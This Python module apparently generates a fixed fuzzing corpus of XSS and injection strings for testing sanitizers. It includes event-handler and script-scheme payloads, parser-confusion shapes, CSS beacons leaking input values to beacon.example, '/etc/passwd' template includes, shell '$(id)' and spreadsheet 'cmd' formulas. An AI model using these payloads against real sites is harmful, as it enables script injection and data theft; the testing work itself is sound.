"""Texts that would run a script, if a place let them: made here by rules, the same ones each time.

In each of them `§` stands for the number of the place where it is put, so that whatever runs says where it came from:
it calls `__x(number)`.
"""

import html
from collections.abc import Iterator
from random import Random
from urllib.parse import quote

SEED = 7
CALL = "__x(§)"

BREAKS = (
    *("", '">', "'>", "\"'>", "`>", "</p>", "</div></article></main>", "</title>", "</style>", "</script>"),
    *("</textarea>", "</bdi></b>", "--><", "-->", "--!>", "]]>", "</template>", "</option></select>", "</noscript>"),
    *("</svg>", "</math>", "</xmp>", "</iframe>", "</noembed>", "</noframes>", "?>", "%>", "}}", "*/", "</summary>"),
    *("</details>", '"/>', '" x="', "<", "<<", "<!-->", "<!--><", "<![CDATA[", "\0", "</a>", '<a title="', '\\">'),
    *("&quot;>", "</html>", "</table>", "</blockquote>", "</body></html>", "</object>", "\r\n\r\n", "\u2028"),
)
"""What may end the place in which a text stands."""

FIRING = (
    "<script>@</script>",
    "<script src=data:text/javascript,@></script>",
    "<script type=module>@</script>",
    "<script/x>@</script\t>",
    "<ScRiPt>@</sCrIpT>",
    "<script>/*</script><script>*/@</script>",
    "<img src=x onerror=@>",
    "<image src=x onerror=@>",
    "<img src onerror=@>",
    "<img srcset=x onerror=@>",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><script href=data:text/javascript,@ />",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributeName=x to=y dur=1s>",
    "<svg><image href=x onerror=@>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><a xlink:href=javascript:@><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg onload=@></svg>#a'></use></svg>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<iframe srcdoc='<script>@</script>'></iframe>",
    "<iframe src=javascript:@></iframe>",
    "<iframe onload=@></iframe>",
    "<iframe src='data:text/html,<script>@</script>'></iframe>",
    "<object data=javascript:@></object>",
    "<object data='data:text/html,<script>@</script>'></object>",
    "<object data=x onerror=@></object>",
    "<embed src='data:text/html,<script>@</script>'>",
    "<embed src=javascript:@>",
    "<details open ontoggle=@>",
    "<input autofocus onfocus=@>",
    "<input type=image src=x onerror=@>",
    "<select autofocus onfocus=@></select>",
    "<textarea autofocus onfocus=@></textarea>",
    "<button autofocus onfocus=@>b</button>",
    "<div contenteditable autofocus onfocus=@>d</div>",
    "<x autofocus tabindex=1 onfocus=@>x</x>",
    "<video src=x onerror=@></video>",
    "<video><source src=x onerror=@></video>",
    "<audio src=x onerror=@></audio>",
    "<audio src=x onloadstart=@></audio>",
    "<video src=x onloadstart=@></video>",
    "<marquee onstart=@>m</marquee>",
    "<style onload=@></style>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=@>b</b>".replace("@k", "\ue000k"),
    "<link rel=stylesheet href=data:text/css,x onload=@>",
    "<link rel=stylesheet href=x onerror=@>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>@</script>'>",
    "<form><button formaction=javascript:@>f",
    "<form action=javascript:@><input type=submit></form>",
    "<a href=javascript:@>a</a>",
    "<area href=javascript:@>",
    "<base href=javascript:@//>",
    "<template><script>@</script></template>",
    "<noscript><img src=x onerror=@></noscript>",
    "<xmp><img src=x onerror=@></xmp>",
    "<frameset onload=@>",
    "<portal src=javascript:@>",
    "<p popover onbeforetoggle=@>p",
    "<dialog open onclose=@><form method=dialog><button>",
    "<video><track default src=x onerror=@></video>",
    "<table background=javascript:@><td>",
    "<input onblur=@ autofocus><input autofocus>",
    "<xss-x onwebkitanimationend=@ style=animation:a>",
    "<isindex type=image src=x onerror=@>",
    "<keygen autofocus onfocus=@>",
    "<q/oncut=@ tabindex=0 autofocus onfocus=@>",
)
"""What runs by itself, or nearly; `@` stands for the call."""

EVENTS = (
    "abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick "
    "beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload "
    "begin blur bounce cancel canplay canplaythrough change click close command contextlost contextmenu "
    "contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop "
    "durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange fullscreenerror "
    "gesturechange gestureend gesturestart gotpointercapture hashchange input invalid keydown keypress keyup "
    "languagechange load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter "
    "mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pagereveal pageshow pageswap "
    "paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover "
    "pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend "
    "scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange "
    "stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel "
    "transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend "
    "webkitmouseforcechanged webkitmouseforcedown webkitmouseforceup webkitmouseforcewillbegin webkittransitionend wheel"
).split()
"""Names of events, those of browsers that are gone too."""

TAGS = ("img src=x", "svg", "a href=x", "div", "input", "details open", "video src=x", "body", "x", "b style=color:red",
        "math", "form")  # fmt: skip
QUOTES = ("on{}=@", 'on{}="@"', "on{}='@'", "ON{} = @", "/on{}=@//", "x\fon{}\n=\t`@`", "on{}=&#x5f;&#95;x(§)")

SCHEMES = {
    "javascript:": "@",
    "vbscript:": "@",
    "data:text/html,": "<script>@</script>",
    "data:text/html;base64,": "PHNjcmlwdD5fX3goMCk8L3NjcmlwdD4=§",
    "livescript:": "@",
    "data:image/svg+xml,": "<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>",
    "blob:": "https://x.example/@",
    "view-source:javascript:": "@",
    "feed:javascript:": "@",
    "filesystem:": "@",
}
CONTEXTS = (
    "~",
    "<~>",
    "[a](~)",
    "[a](<~>)",
    "![a](~)",
    '[a](~ "t")',
    "[a]: ~\n\n[a]",
    "<a href='~'>a</a>",
    '"><a href="~">a</a>',
    "<iframe src='~'></iframe>",
    "<img src='~'>",
    "<form action='~'><input type=submit></form>",
    "<button form=f formaction='~'>b</button>",
    "<svg><a xlink:href='~'><text>a</text></a></svg>",
    "<math href='~'>m</math>",
    "<meta http-equiv=refresh content='0;url=~'>",
    "<base href='~'>",
    "<object data='~'></object>",
    "https://x.example/?~",
    "https://x.example/#\"onfocus='~'",
)
"""Where an address may stand; `~` stands for it."""

SHAPES = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=@>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>",
    '<noscript><p title="</noscript>~">',
    '<svg></p><style><a id="</style>~">',
    '<svg><style><img title="</style>~"></style></svg>',
    "<svg><desc>~</desc></svg>",
    '<svg><title><style>"</title>~',
    "<svg><![CDATA[><image xlink:href=']]>~'",
    "<math><annotation-xml encoding='text/html'>~</annotation-xml></math>",
    "<table><td>x</td>~</table>",
    "<table><tr>~<tr></table>",
    "<select><option>~</option></select>",
    "<select><template>~</template></select>",
    "<template shadowrootmode=open>~</template>",
    '<xmp><p title="</xmp>~">',
    '<iframe><p title="</iframe>~"></iframe>',
    '<noembed><p title="</noembed>~"></noembed>',
    '<title><p title="</title>~"></title>',
    '<textarea><p title="</textarea>~"></textarea>',
    '<plaintext><p title="</plaintext>~">',
    "<!--<img src='--><img src=x onerror=@//'>",
    "<!--!> --!>~",
    "<!---!>~",
    "<!></!>~",
    "</~",
    "<?php ~ ?>",
    "<?xml-stylesheet href='javascript:@'?>~",
    "<!doctype html [<!entity x '~'>]>&x;",
    "<a href='x'><a href='y'>~",
    "<p><p title='`'>~`",
    "<form><form id=x>~",
    "<b><i><p></b>~</i></p>",
    "<svg><font color=x>~</font></svg>",
    "<svg><p>~",
    "<math><mi><style><!--</style>~--></math>",
    "<div><![CDATA[~]]></div>",
    "<frameset><frame src=javascript:@></frameset>~",
    "<style><!--</style>~--></style>",
    "<script><!--<script></script>~",
    "<listing>&lt;img src=x onerror=@&gt;</listing>",
    "<dialog open><p id='</dialog>~'>",
    "<custom-x><template shadowroot=open><slot>~</slot></template></custom-x>",
    "<a id=x name=y><a id=x>~",
    "<img name=body><img name=cookie>~",
    "<form id=documentElement><input name=attributes>~",
    "x<!-- > -->~",
    "<svg/><![CDATA[--><svg><script>@</script>]]>",
    "<button popovertarget=x>b</button><xss onbeforetoggle=@ popover id=x>x</xss>",
    "<ruby><rt>~</rt></ruby>",
)
"""Shapes that one parser reads otherwise than another, or than the same one the second time; `~` is what fires."""

STYLES = (
    "<style>*{background:url(javascript:@)}</style>",
    "<style>\ue000import 'javascript:@';</style>",
    "<style>\ue000import url(data:text/css,*{-moz-binding:url(x)});</style>",
    "<div style=background:url(javascript:@)>",
    "<div style='width:expression(@)'>",
    "<div style='behavior:url(x.htc)' x='@'>",
    "<div style='-moz-binding:url(x#@)'>",
    "</style><style>*{color:red}/*@*/</style>",
    "};*{background:url('https://beacon.example/§')}",
    "<style>body{background:url(https://beacon.example/§)}/*@*/</style>",
    "<link rel=stylesheet href='https://beacon.example/§.css'><!--@-->",
    "<p style='position:fixed;inset:0;z-index:9;background:image-set(\"https://beacon.example/§\" 1x)'>@",
    "<style>input[value^=a]{background:url(//beacon.example/§)}</style>@",
    "\\3c script\\3e @\\3c/script\\3e",
    "<xss style='xss:expr/*@*/ession(@)'>",
    "<style>\ue000font-face{font-family:x;src:url(https://beacon.example/§)}*{font-family:x}</style>@",
)
BEACONS = (
    "<img src=https://beacon.example/§ alt='@'>",
    "<img srcset='//beacon.example/§ 1x' alt='@'>",
    "<link rel=prefetch href=//beacon.example/§><!--@-->",
    "<link rel=preconnect href=//beacon.example/><!--@-->",
    "<link rel=icon href=//beacon.example/§><!--@-->",
    "<video poster=//beacon.example/§ title='@'></video>",
    "<audio src=//beacon.example/§ title='@'></audio>",
    "<iframe src=//beacon.example/§ title='@'></iframe>",
    "<object data=//beacon.example/§ title='@'></object>",
    "<input type=image src=//beacon.example/§ alt='@'>",
    "<table background=//beacon.example/§ title='@'><td>",
    "<svg><image href=//beacon.example/§ /><!--@--></svg>",
    "<svg><feImage href=//beacon.example/§ /><!--@--></svg>",
    "<script src=//beacon.example/§></script><!--@-->",
    "<base href=//beacon.example/§/><!--@-->",
    "<meta http-equiv=refresh content='0;url=//beacon.example/§'><!--@-->",
    "<img src='//beacon.example/§?",
    "![@](https://beacon.example/§)",
    "![@][b]\n\n[b]: https://beacon.example/§",
    "<a ping=//beacon.example/§ href=x>@</a>",
    "<embed src=//beacon.example/§ title='@'>",
    "<frameset><frame src=//beacon.example/§></frameset><!--@-->",
)
TEMPLATES = (
    *("{{7*7}}@", "{{@}}", "{%if 1%}@{%endif%}", "{#@#}", "${@}", "#{@}", "<%= @ %>", "<%@%>", "[[@]]", "{{{@}}}"),
    *("{{constructor.constructor('@')()}}", "{{self.__init__.__globals__}}@", "{{''.__class__.__mro__}}@", "${{@}}"),
    *(
        "{% include '/etc/passwd' %}@",
        "{% raw %}@{% endraw %}",
        "{{ say|safe }}@",
        "{{ article|safe }}@",
        "%{@}",
        "@{@}",
    ),
    *('#eval("@")', '#panic("@")', '#read("/etc/passwd")@', '#include "x.typ"@', "#set page(width: 1pt)@", "$ @ $"),
    *('"; #panic("@")', "]#panic()[@", '#import "@preview/x:1.0.0"@', '#image("/x.png")@', "<label>@", "\\u{41}@"),
    *(
        "{0.__class__}@",
        "%(x)s@",
        "%s%n@",
        "{say.__class__}@",
        "{n}@",
        "{author}{n}@",
        "\\input{/etc/passwd}@",
        "`id`@",
    ),
    *("$(id)@", "|id@", ";id;@", "=cmd|'/c calc'!A1@", '=HYPERLINK("https://beacon.example/§")@', "+@", "-@", "@@"),
    *("ng-app{{@}}", "v-html=@", ":[@]=1", "*ngIf=@", "x-data=@ x-init=@", "hx-on:load=@", "data-bind=@"),
)
TERMINAL = (
    *("\x1b]8;;javascript:@\x07x\x1b]8;;\x07", "\x1b[2J@", "\x9b2J@", "\x1b]0;@\x07", "\x90@\x9c", "\x1bP@\x1b\\"),
    *("a\r\nSet-Cookie: x=@", "a\nLocation: javascript:@", "\x85Set-Cookie: @", "\u2028Set-Cookie: @", "\0@", "\x7f@"),
    *("[link=javascript:@]x[/link]", "[bold]@[/bold]", "[@click=app.quit]x[/]", "\x1b[8m@\x1b[0m", "\b\b\b@", "\x0e@"),
    *(
        "\u202e@\u202c",
        "\u2066@",
        "\u200b@\ufeff",
        "\ufffe@",
        "\ud7ff@",
        "\U000e0001@",
        "\u0300@",
        "\uff1cscript\uff1e@",
    ),
)


def _addresses() -> Iterator[tuple[str, str]]:
    """A scheme in each of its spellings, and what stands behind it."""
    odd = (
        "\t",
        "\n",
        "\r",
        "\0",
        "\x01",
        " ",
        "\u00a0",
        "\u2028",
        "\u2029",
        "\u200b",
        "\ufeff",
        "\x0b",
        "\x0c",
        "\x1f",
    )
    for scheme, body in SCHEMES.items():
        name, colon, rest = scheme.partition(":")
        spelt = [scheme, scheme.upper(), scheme.title(), "".join(map(_swapped, range(len(scheme)), scheme))]
        spelt += [sign + scheme for sign in odd] + [f"{name[:4]}{sign}{name[4:]}:{rest}" for sign in odd]
        spelt += [f"{name}{sign}:{rest}" for sign in odd] + [f"&#{code};{scheme}" for code in (1, 9, 14, 32, 160)]
        spelt += [
            f"{name[:4]}&{hole};{name[4:]}:{rest}" for hole in ("Tab", "NewLine", "#9", "#x0A", "#0000013", "nbsp")
        ]
        spelt += ["".join(f"&#{ord(sign)};" for sign in name) + colon + rest]
        spelt += ["".join(f"&#x{ord(sign):x}" for sign in name) + "&colon;" + rest, f"{name}&colon;{rest}"]
        spelt += ["".join(f"&#{ord(sign):07}" for sign in name) + colon + rest, f"{name}&amp;colon;{rest}"]
        spelt += [f"{quote(name[0])}%{ord(name[1]):x}{name[2:]}:{rest}", f"{name}%3a{rest}", f"{name}\uff1a{rest}"]
        spelt += [f"\\6a {scheme}", f"//{scheme}", f"\\\\{scheme}", f"https:{scheme}", f"x:{scheme}", f"{scheme}//%0a"]
        yield from ((one, body) for one in spelt)


def _swapped(place: int, sign: str) -> str:
    return sign.upper() if place % 2 else sign


def _encoded(text: str) -> Iterator[str]:
    """A text as it may be handed over by somebody who decodes once more, or otherwise."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(sign)};" if sign in "<>\"'" else sign for sign in text)
    yield text.replace("<", "&#x3C").replace(">", "&#x3e")
    yield text.replace("<", "&LT;").replace(">", "&GT;")
    yield quote(text, safe="§()_")
    yield text.replace("<", "\\u003c").replace(">", "\\u003e")
    yield text.replace("<", "\\x3c")
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "%C0%BC")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "<\0").replace(" ", "\0 ")
    yield text.replace(" ", "/").replace("=", " = ")
    yield text.replace(" ", "\u00a0")
    yield text.replace("<", "<\u200b<")
    yield text.replace("<", "\u226e")
    yield f"\ufeff{text}"
    yield text[::-1].replace("§", "§") + text


def _handlers() -> Iterator[str]:
    for place, event in enumerate(EVENTS):
        for number, tag in enumerate(TAGS):
            for more in range(3):
                said = QUOTES[(place + 3 * number + more * 2) % len(QUOTES)].format(event)
                yield f"<{tag} {said}>" if more < 2 else f'" {said} autofocus tabindex=0 x="{tag}'


def _all(die: Random) -> Iterator[str]:
    yield from (before + fires for fires in FIRING for before in BREAKS)
    yield from _handlers()
    addresses = list(_addresses())
    for scheme, body in addresses:
        yield from (place.replace("~", scheme + body) for place in (CONTEXTS[0], *die.sample(CONTEXTS[1:], 4)))
    inner = [FIRING[at] for at in (0, 6, 10, 12, 23, 32, 41, 54)]
    yield from (shape.replace("~", fires) for shape in SHAPES for fires in inner)
    yield from (before + text for text in (*STYLES, *BEACONS) for before in BREAKS[:24])
    yield from (before + text for text in TEMPLATES for before in ("", '"', "'>", "\n"))
    yield from (before + text for text in TERMINAL for before in ("", "a", "<img src=x onerror=@>"))
    yield from (one for fires in FIRING for one in _encoded(fires))


def vectors() -> list[str]:
    """All of them, each once; about half a page of text at the longest."""
    made = (one.replace("@", CALL).replace("\ue000", "@") for one in _all(Random(SEED)))
    return list(dict.fromkeys(made))


def some(size: int) -> list[str]:
    """So many of them, spread evenly over all kinds; all where there are no more."""
    found = vectors()
    return found if size >= len(found) else [found[len(found) * at // size] for at in range(size)]


def numbered(vector: str, number: int) -> str:
    """A vector as it stands in the place of that number."""
    return vector.replace("§", str(number))
